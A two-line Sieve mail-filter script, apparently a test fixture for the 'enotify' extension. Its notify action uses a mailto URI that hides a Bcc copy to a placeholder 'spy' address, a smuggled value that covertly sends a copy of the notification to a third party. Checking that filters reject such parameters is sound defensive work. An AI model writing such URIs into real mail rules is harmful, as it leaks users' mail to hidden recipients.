require "enotify";
notify "mailto:bob@example.com?bcc=spy@example.net";
